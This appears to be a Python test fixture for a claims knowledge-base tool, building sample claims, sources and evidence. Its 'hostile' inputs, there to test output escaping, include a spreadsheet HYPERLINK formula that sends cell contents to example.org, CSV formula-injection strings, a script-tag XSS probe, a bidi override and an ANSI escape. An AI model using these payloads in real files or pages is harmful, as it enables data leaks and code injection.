"""A small base built from model objects: one claim of every type, two sources, hostile texts."""

from __future__ import annotations

import hashlib
from datetime import date
from typing import TYPE_CHECKING, Any, TypeVar

from kbtool.model.base_config import BaseConfig, Reviewers
from kbtool.model.claim import CLAIM, ClaimBase
from kbtool.model.evidence import Evidence
from kbtool.model.policy import Policy
from kbtool.model.source import Source
from kbtool.model.vocabulary import Vocabulary
from kbtool.records import KnowledgeBase, Record
from kbtool.release.gate import GATES
from kbtool.release.release import Release, make_release
from kbtool.review.standing import Standing

if TYPE_CHECKING:
    from pathlib import Path

    from kbtool.model.base import Model

M = TypeVar("M", bound="Model")

AS_OF = date(2026, 1, 31)

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"see")'
HOSTILE = (
    FORMULA,
    "+1 is a sum; -2 is another;@both",
    "-5 mg at night",
    "@home use",
    "\uff1d1+1 in wide letters",
    ' "=1+1" behind a blank and a quote',
    "'tis quoted",
    'He said "no", and left,\nthen came back\r\non a second line\t(after a tab)',
    "\u05e9\u05dc\u05d5\u05dd right to left, \u202ehidden turn\u202c",
    "Thumbs up \U0001f44d\U0001f3fd and a family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "a line separator\u2028and a next line\u0085end, <script>alert(1)</script> & \\ \x1b[31m",
    "70 % of \u00b5g/kg \u2265 1.10 e\u0301\u00e9",
)
"""One text a claim, in the order of the types."""

FIELDS: dict[str, dict[str, Any]] = {
    "definition": {"term": {"as_stated": "a thing"}, "meaning": {"as_stated": FORMULA}},
    "epidemiology": {"condition": {"as_stated": "it"}, "frequency": {"as_stated": "4%", "value": "4", "unit": "%"}},
    "mechanism": {"subject": {"as_stated": "it"}, "knowledge": "not-stated"},
    "efficacy": {
        "intervention": {"as_stated": "it"},
        "outcome": {"as_stated": "relief"},
        "direction": {"as_stated": "may help", "code": "may-improve"},
    },
    "study-finding": {
        "study": {"ref": "untraced-study"},
        "outcome": {"as_stated": "relief"},
        "result": {"as_stated": "70%", "value": "70", "unit": "%"},
    },
    "citation": {"study": {"ref": "untraced-study"}, "venue": "not-stated", "year": {"as_stated": "in 2012"}},
    "safety": {"intervention": {"as_stated": "it"}, "effect": {"as_stated": "nausea"}, "seriousness": "not-stated"},
    "administration": {
        "intervention": {"as_stated": "it"},
        "dose": {"as_stated": "-5 mg", "value": "-5", "unit": "mg"},
    },
    "availability": {"intervention": {"as_stated": "it"}, "extent": {"as_stated": "some clinics"}},
    "cost": {"item": {"as_stated": "it"}, "payer": {"as_stated": "insurers"}},
    "guidance": {"recommendation": {"as_stated": "ask"}, "strength": {"as_stated": "should", "code": "recommends"}},
    "usage": {"agent": {"as_stated": "it"}, "use": {"as_stated": "sleep"}},
}

_TERM = {"label": "A label", "definition": "A definition."}


def _terms(**labels: str) -> dict[str, dict[str, str]]:
    return {name.replace("_", "-"): {**_TERM, "label": label} for name, label in labels.items()}


VOCABULARY = Vocabulary.model_validate(
    {
        "claim_types": {name: {**_TERM, "label": name.capitalize()} for name in FIELDS},
        "caveat_kinds": _terms(limited_evidence="Limited evidence", untraced_citation="Untraced citation"),
        "ratings": _terms(supported="Supported", unverifiable="Unverifiable"),
        "certainty_levels": _terms(low="Low"),
        "stances": _terms(supports="Supports", context="Context"),
        "directness": _terms(direct="Direct"),
        "evidence_kinds": _terms(randomised_trial="Randomised trial", bibliographic_trace="Bibliographic trace"),
        "skip_reasons": _terms(heading="Heading"),
        "relation_kinds": _terms(see_also="See also"),
        "directions": _terms(may_improve="May improve"),
        "seriousness": _terms(mild="Mild"),
        "strengths": _terms(recommends="Recommends"),
        "statuses": _terms(draft="Draft", approved="Approved", withdrawn="Withdrawn"),
        "hedges": {"possibility": {**_TERM, "words": ["may"]}},
        "negations": ["not"],
        "connectives": ["and"],
        "placeholders": ["todo"],
    }
)

CONFIG = BaseConfig.model_validate(
    {
        "title": "A small base",
        "description": "Made for tests.",
        "language": "en",
        "publisher": {"name": "A publisher"},
        "base_url": "https://example.org/claims/",
        "licences": {"data": "CC-BY-4.0", "code": "Apache-2.0", "texts": "their owners'"},
        "schema": {"folder": "schema", "version": "1"},
        "intended_use": {"is_for": "tests", "is_not": ["medical advice"]},
    }
)

SEEN = {"how": "abstract", "at": ["https://example.org/abstract"]}


def claim_of(kind: str, statement: str, *, document: str = "open-text", **changes: Any) -> ClaimBase:
    """A claim of a type, with one caveat of each kind of basis."""
    plain: dict[str, Any] = {
        "id": f"{document}/{kind}",
        "type": kind,
        "statement": statement,
        "polarity": "asserted",
        "hedges": ["may"],
        "source": {"document": document, "quotes": [{"exact": statement, "start": "0", "end": str(len(statement))}]},
        "caveats": [
            {
                "kind": "limited-evidence",
                "text": f"Caveat one of {kind}: {statement}",
                "basis": {"evidence": "a-trial"},
            },
            {"kind": "limited-evidence", "text": "=2+2", "basis": {"quote": {"exact": "may", "prefix": "it "}}},
            {"kind": "untraced-citation", "text": f"Caveat three of {kind}", "basis": {"claim": "open-text/usage"}},
            {"kind": "unknown-kind", "text": "rests on nothing"},
        ],
        "evidence": [{"ref": "a-trial", "stance": "supports", "directness": "direct", "finding": statement}],
        "verdict": {"rating": "supported", "rationale": statement},
        "relations": [{"kind": "see-also", "claim": "open-text/usage"}],
        "drafted": {"by": "editorial", "on": "2026-01-02", "method": "by hand", "machine": "true"},
        "review": {"status": "draft"},
        "tags": ["small"],
        "notes": "SECRET: for editors only",
    }
    return CLAIM.validate_python({**plain, **FIELDS[kind], **changes})


CERTAIN = {
    "rating": "supported",
    "rationale": "as stated",
    "certainty": {"level": "low", "stated_by": "a-trial", "outcome": "relief"},
}


def _changes(kind: str) -> dict[str, Any]:
    return {"verdict": CERTAIN} if kind == "efficacy" else {}


def small_claims() -> list[ClaimBase]:
    """One claim of every type, one of a document of which only quotes may go out, one withdrawn."""
    pairs = zip(FIELDS, HOSTILE, strict=True)
    claims = [claim_of(kind, text, **_changes(kind)) for kind, text in pairs]
    claims.append(claim_of("cost", "it costs", document="closed-text", caveats=[], evidence=[], relations=[]))
    claims.append(claim_of("usage", "was used", document="closed-text", review={"status": "withdrawn"}))
    return claims


def _evidence() -> list[Evidence]:
    common = {
        "result": "8 of 12",
        "status": {"state": "current", "on": "2026-01-01", "source": "looked up"},
        "checked": {"on": "2026-01-01", "how": "by hand"},
        "notes": "SECRET: for editors only",
    }
    trial = {
        "id": "a-trial",
        "kind": "randomised-trial",
        "citation": {
            "type": "article-journal",
            "title": "=A title that begins badly.",
            "author": [{"family": "Doe", "given": "J"}, {"literal": "et al."}],
            "container-title": "Journal of Tests",
            "volume": "1",
            "issue": "2",
            "page": "3-4",
            "issued": "2011-05",
        },
        "identifiers": {"doi": "10.5555/example", "pmid": "0", "pmcid": "PMC0", "registry": ["NCT00000000"]},
        "seen": SEEN,
    }
    lost = {
        "id": "untraced-study",
        "kind": "bibliographic-trace",
        "citation": {"type": "x"},
        "seen": {"how": "not-seen"},
    }
    unused = {**lost, "id": "cited-by-nobody"}
    return [Evidence.model_validate({**common, **each}) for each in (trial, lost, unused)]


def source_of(document: str, use: str, text: str) -> Source:
    """A source record for a text."""
    raw = text.encode()
    return Source.model_validate(
        {
            "document": document,
            "title": f"[{document}]",
            "language": "en",
            "rights": {"use": use, "holder": "its author", "statement": "for tests"},
            "found": [{"on": "2026-01-01", "note": "made up"}],
            "text": {
                "digest": hashlib.sha256(raw).hexdigest(),
                "bytes": str(len(raw)),
                "characters": str(len(text)),
                "media_type": "text/plain",
                "stored": "2026-01-01",
            },
            "sentences": [["0", "5"]],
            "skipped": [{"exact": "SKIPPED WORDS", "start": "0", "end": "13", "reason": "heading"}],
            "connectives": [{"exact": "JOINING WORDS", "start": "13", "end": "26"}],
        }
    )


TEXTS = {"open-text": "SKIPPED WORDS " + "\n".join(HOSTILE), "closed-text": "A text that may not go out: it costs."}
RIGHTS = {"open-text": "full-text", "closed-text": "quotes-only"}


def record(model: M) -> Record[M]:
    """A record that comes from no file."""
    return Record("no-file.yaml", b"", model)


def base_of(claims: list[ClaimBase]) -> KnowledgeBase:
    """A base of some claims, with the sources and evidence of this module."""
    return KnowledgeBase(
        config=record(CONFIG),
        vocabulary=record(VOCABULARY),
        policy=record(Policy()),
        reviewers=record(Reviewers()),
        sources={name: record(source_of(name, RIGHTS[name], text)) for name, text in TEXTS.items()},
        texts=TEXTS,
        evidence={each.id: record(each) for each in _evidence()},
        claims={claim.id: record(claim) for claim in claims},
    )


def small_release(gate: str = "any") -> Release:
    """The release of the small base through a gate."""
    return make_release(base_of(small_claims()), GATES[gate], AS_OF)


def approved(claim: ClaimBase) -> Standing:
    """Say of any claim that it is approved."""
    return Standing("approved", f"said so of '{claim.id}' in a test")


def outputs(folder: Path) -> dict[str, bytes]:
    """The files below a folder, by relative path."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()
    }
